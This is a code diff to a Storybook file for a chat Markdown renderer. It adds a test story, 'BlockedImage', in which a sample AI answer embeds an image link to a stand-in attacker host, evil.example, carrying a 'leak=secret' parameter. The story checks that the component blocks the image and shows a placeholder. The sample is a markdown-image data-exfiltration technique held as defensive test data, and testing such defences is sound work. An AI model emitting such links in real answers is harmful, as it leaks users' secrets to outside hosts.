@@ -1,5 +1,6 @@
 import type { Meta, StoryObj } from '@storybook/react-vite';
 import { useEffect, useState } from 'react';
+import { expect } from 'storybook/test';
 import { Button } from '../shared/Button.js';
 import { Lightbox } from '../shared/Lightbox.js';
 import { Markdown } from './Markdown.js';
@@ -149,5 +150,24 @@ export const Chinese: Story = {
   args: {
     source:
       '## 安装\n\n先安装依赖：\n\n```bash\npnpm add @aitre/ui @aitre/react\n```\n\n然后：\n\n1. 在应用外层包上 `AitreProvider`\n2. 引入一次 `@aitre/ui/styles.css`\n3. 放入 `<Chat />` 即可\n\n> 提示：API 密钥应当放在服务端。',
+  },
+};
+
+/**
+ * An answer trying to leak data through a foreign image: with an origin policy it shows a
+ * placeholder naming the host, and nothing loads until the user activates it.
+ */
+export const BlockedImage: Story = {
+  args: {
+    source:
+      'Here is your summary.\n\n![chart](https://evil.example/p.png?leak=secret)\n\nAsk me anything else.',
+    imageOrigins: [],
+  },
+  play: async ({ canvas, canvasElement, userEvent }) => {
+    const load = await canvas.findByRole('button', { name: /evil\.example/ });
+    await expect(load).toHaveAttribute('data-state', 'blocked');
+    await expect(canvasElement.querySelector('img')).toBeNull();
+    await userEvent.tab();
+    await expect(load).toHaveFocus();
   },
 };
